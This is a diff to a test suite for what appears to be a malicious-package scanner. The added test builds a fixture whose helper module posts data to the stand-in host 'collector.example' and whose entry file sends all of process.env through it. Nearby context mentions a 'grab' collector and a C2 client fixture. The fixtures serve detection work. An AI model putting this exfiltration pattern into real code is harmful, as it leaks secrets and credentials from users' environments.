@@ -1297,6 +1297,13 @@ def unused():
     expect(await rule({ 'synthetic_pkg/__init__.py': `from .collect import grab\nprint(grab())\n`, 'synthetic_pkg/collect.py': collect })).toBeUndefined()
   })
 
+  it('follows data between JavaScript modules: a helper module that posts its argument', async () => {
+    const net = `const https = require('https')\nfunction send(data) {\n  const req = https.request({ host: 'collector.example', method: 'POST' })\n  req.write(data)\n  req.end()\n}\nmodule.exports = { send }\n`
+    const rule = async (files: Record<string, string>) => scoring(await npm(files, { main: 'index.js' }), 'exfiltrates-environment')?.message
+    expect(await rule({ 'index.js': `const net = require('./net')\nnet.send(JSON.stringify(process.env))\n`, 'net.js': net })).toMatch(/\.\/net\.send\(\) → network/)
+    expect(await rule({ 'index.js': `const net = require('./net')\nnet.send(JSON.stringify({ ok: true }))\n`, 'net.js': net })).toBeUndefined()
+  })
+
   it('follows data through the methods of a class of the file: a C2 client wrapped in a class', async () => {
     const r = await sdist({
       'synthetic_pkg/__init__.py': `import platform, subprocess
